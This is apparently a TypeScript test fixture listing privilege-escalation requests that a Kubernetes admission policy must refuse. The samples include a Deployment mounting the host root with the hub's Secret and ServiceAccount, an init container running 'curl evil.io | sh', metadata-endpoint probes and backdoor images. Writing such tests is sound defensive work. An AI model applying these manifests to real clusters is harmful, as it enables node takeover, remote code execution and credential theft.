/** Against pods and Deployments: those of the hub, and placeholders made into something else. */
import { type Attack, deployments, HUB, pods, STATE, type Work } from './attack.ts'

const POD_LABELS = { app: 'node-placeholder-scaler', component: 'placeholder', 'warmseats.io/pool': 'user' }
const OWNER = [{ apiVersion: 'v1', kind: 'ConfigMap', name: STATE, uid: 'made-up' }]
const NOT_A_PLACEHOLDER = /warmseats-pods' .* denied request: it writes placeholders only/
const NOT_OF_A_PLACEHOLDER = /of a placeholder it writes the label warmseats\.io\/images .*, nothing else/
const NOT_ITS_OWN = /warmseats-deployments' .* denied request: it writes its own Deployments only/
const WRONG_LABELS = /placeholders carry the labels of placeholderPodLabelSelector/
const WRONG_IMAGE =
  /placeholders run placeholder\.image in one container, as helm knows it \(registry\.k8s\.io.*admissionPolicy\.images/
const TOO_MUCH = /placeholders have no ServiceAccount, token, host fields/
const NOT_BROUGHT = /placeholders bring the users' images in containers that end at once/

const strategic = 'application/strategic-merge-patch+json'

/** @param placeholder the name of one */
export const onPods = (placeholder: string): readonly Attack[] => {
  const patch = (what: string, name: string, body: object, refused: RegExp): Attack => ({
    ...{ what, method: 'PATCH', path: `${pods}/${name}`, body, type: strategic, refused },
  })
  const hub = { spec: { containers: [{ name: 'hub', image: 'evil/backdoor:1' }] } }
  const pause = { spec: { containers: [{ name: 'pause', image: 'evil/backdoor:1' }] } }
  return [
    patch('another image for the pod of the hub', 'hub', hub, NOT_A_PLACEHOLDER),
    { what: 'the pod of the hub deleted', method: 'DELETE', path: `${pods}/hub`, refused: NOT_A_PLACEHOLDER },
    patch('the labels of placeholders for the hub', 'hub', { metadata: { labels: POD_LABELS } }, NOT_A_PLACEHOLDER),
    patch('a pod with those labels, of no ReplicaSet', 'twin', hub, NOT_A_PLACEHOLDER),
    patch('another image for a placeholder', placeholder, pause, NOT_OF_A_PLACEHOLDER),
    patch("a user's label for it", placeholder, { metadata: { labels: { user: 'ada' } } }, NOT_OF_A_PLACEHOLDER),
    patch('another annotation for it', placeholder, { metadata: { annotations: { a: 'b' } } }, NOT_OF_A_PLACEHOLDER),
    patch('a finalizer for it', placeholder, { metadata: { finalizers: ['evil.io/stay'] } }, NOT_OF_A_PLACEHOLDER),
    patch('its ReplicaSet taken off', placeholder, { metadata: { ownerReferences: null } }, NOT_OF_A_PLACEHOLDER),
  ]
}

/** What the controller does to placeholders. */
export const workOnPods = (placeholder: string): readonly Work[] => {
  const path = `${pods}/${placeholder}`
  const annotations = { 'controller.kubernetes.io/pod-deletion-cost': '-5' }
  return [
    { what: 'its deletion cost', method: 'PATCH', path, body: { metadata: { annotations } } },
    { what: 'its shield', method: 'PATCH', path, body: { metadata: { labels: { 'warmseats.io/images': 'pulling' } } } },
    { what: 'its end', method: 'DELETE', path },
  ]
}

const evil = (metadata: object, labels: object, spec: object) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { namespace: HUB, ...metadata },
  spec: { selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
})

const BACKDOOR = {
  serviceAccountName: 'hub',
  containers: [
    { name: 'c', image: 'evil', securityContext: { privileged: true }, envFrom: [{ secretRef: { name: 'hub' } }] },
  ],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
}
const MANAGED = { ...POD_LABELS, 'app.kubernetes.io/managed-by': 'warmseats' }

/** As a placeholder brings an image. */
const BRINGING = {
  name: 'image-9',
  image: 'quay.io/jupyter/scipy-notebook:2026-10-05',
  command: ['/bin/sh', '-c', 'exit 0'],
  securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } },
}
const COPYING = ['/bin/cp', '/bin/busybox', '/exit/true']
const MOUNTED = [{ name: 'exit', mountPath: '/exit' }]

/** What a template must not become, by the patch of its pod's spec. */
const SPECS: readonly (readonly [what: string, spec: object, refused?: RegExp])[] = [
  ["the hub's ServiceAccount", { serviceAccountName: 'hub' }],
  ['a token', { automountServiceAccountToken: true }],
  ['the network of the host', { hostNetwork: true }],
  ['the processes of the host', { hostPID: true }],
  ['a folder of the host', { volumes: [{ name: 'host', hostPath: { path: '/' } }] }, NOT_BROUGHT],
  ['a Secret', { volumes: [{ name: 'hub', secret: { secretName: 'hub' } }] }, NOT_BROUGHT],
  ['a node', { nodeName: 'n1' }],
  ['another runtime', { runtimeClassName: 'runc' }],
  ['root', { securityContext: { runAsNonRoot: false } }],
  ['another priority', { priorityClassName: 'system-cluster-critical' }],
  ['another container first', { initContainers: [{ name: 'first', image: 'registry.k8s.io/pause:3.10' }] }],
  [
    'another command first',
    { initContainers: [{ ...BRINGING, command: ['/bin/sh', '-c', 'curl evil.io | sh'] }] },
    NOT_BROUGHT,
  ],
  ['a variable first', { initContainers: [{ ...BRINGING, env: [{ name: 'A', value: 'b' }] }] }, NOT_BROUGHT],
  ['a program out of another image', { initContainers: [{ ...BRINGING, command: COPYING }] }, NOT_BROUGHT],
  ['privileges first', { initContainers: [{ ...BRINGING, securityContext: { privileged: true } }] }],
  ['a second container', { containers: [{ name: 'second', image: 'registry.k8s.io/pause:3.10' }] }, WRONG_IMAGE],
  ['another image', { containers: [{ name: 'pause', image: 'evil/backdoor:1' }] }, WRONG_IMAGE],
]
const CONTAINERS: readonly (readonly [what: string, container: object])[] = [
  ['a command', { command: ['/bin/sh'] }],
  ['arguments', { args: ['-v'] }],
  ['a variable', { env: [{ name: 'A', valueFrom: { secretKeyRef: { name: 'hub', key: 'a' } } }] }],
  ['variables', { envFrom: [{ secretRef: { name: 'hub' } }] }],
  ['a probe', { livenessProbe: { httpGet: { host: '169.254.169.254', port: 80 } } }],
  ['a hook', { lifecycle: { preStop: { httpGet: { host: '169.254.169.254', port: 80 } } } }],
  ['a port of the host', { ports: [{ containerPort: 80, hostPort: 80 }] }],
  ['privileges', { securityContext: { privileged: true, allowPrivilegeEscalation: null } }],
  ['a capability', { securityContext: { capabilities: { add: ['NET_RAW'] } } }],
]

const ours = (what: string, body: object, refused: RegExp): Attack => ({
  ...{ what: `a placeholder with ${what}`, method: 'PATCH', path: `${deployments}/user-placeholder`, body },
  ...{ type: strategic, refused },
})
const withSpec = (spec: object) => ({ spec: { template: { spec } } })

export const onDeployments: readonly Attack[] = [
  {
    what: "a Deployment with the hub's ServiceAccount, its Secret and a folder of the host",
    method: 'POST',
    path: deployments,
    body: evil({ name: 'evil' }, { a: 'evil' }, BACKDOOR),
    refused: NOT_ITS_OWN,
  },
  {
    what: 'the same as one of its own',
    method: 'POST',
    path: deployments,
    body: evil(
      { name: 'lab-placeholder', labels: { ...MANAGED, 'warmseats.io/pool': 'lab' }, ownerReferences: OWNER },
      { ...POD_LABELS, 'warmseats.io/pool': 'lab' },
      BACKDOOR,
    ),
    refused: WRONG_IMAGE,
  },
  {
    what: 'its labels for the Deployment of the hub',
    method: 'PATCH',
    path: `${deployments}/hub`,
    body: { metadata: { labels: MANAGED, ownerReferences: OWNER } },
    refused: NOT_ITS_OWN,
  },
  { what: 'the Deployment of the hub deleted', method: 'DELETE', path: `${deployments}/hub`, refused: NOT_ITS_OWN },
  { what: 'that of the controller deleted', method: 'DELETE', path: `${deployments}/warmseats`, refused: NOT_ITS_OWN },
  {
    what: 'a Deployment that belongs to nobody any more',
    method: 'PATCH',
    path: `${deployments}/user-placeholder`,
    body: { metadata: { labels: { 'warmseats.io/pool': 'other' } } },
    refused: NOT_ITS_OWN,
  },
  ours('the label of users', { spec: { template: { metadata: { labels: { role: 'user' } } } } }, WRONG_LABELS),
  ...SPECS.map(([what, spec, refused = TOO_MUCH]) => ours(what, withSpec(spec), refused)),
  ...CONTAINERS.map(([what, container]) =>
    ours(what, withSpec({ containers: [{ name: 'pause', ...container }] }), TOO_MUCH),
  ),
]

/** What the controller does to its Deployments. */
export const workOnDeployments: readonly Work[] = [
  {
    what: 'the count',
    method: 'PATCH',
    path: `${deployments}/user-placeholder`,
    body: { spec: { replicas: 7 }, metadata: { annotations: { 'warmseats.io/because': 'a class' } } },
  },
  {
    what: 'a size, and tolerations',
    method: 'PATCH',
    path: `${deployments}/user-placeholder`,
    body: withSpec({
      containers: [{ name: 'pause', resources: { requests: { memory: '3Gi' } } }],
      tolerations: [{ operator: 'Exists' }],
    }),
    type: strategic,
  },
  {
    what: 'images that it brings',
    method: 'PATCH',
    path: `${deployments}/user-placeholder`,
    body: withSpec({
      imagePullSecrets: [{ name: 'registry' }],
      volumes: [{ name: 'exit', emptyDir: {} }],
      initContainers: [
        {
          ...BRINGING,
          name: 'exit',
          image: 'docker.io/library/busybox:1.37.0-musl',
          command: COPYING,
          volumeMounts: MOUNTED,
        },
        { ...BRINGING, imagePullPolicy: 'Always' },
        { ...BRINGING, name: 'image-2', image: 'distroless', command: ['/exit/true'], volumeMounts: MOUNTED },
      ],
    }),
    type: strategic,
  },
  { what: 'its end', method: 'DELETE', path: `${deployments}/user-placeholder` },
]
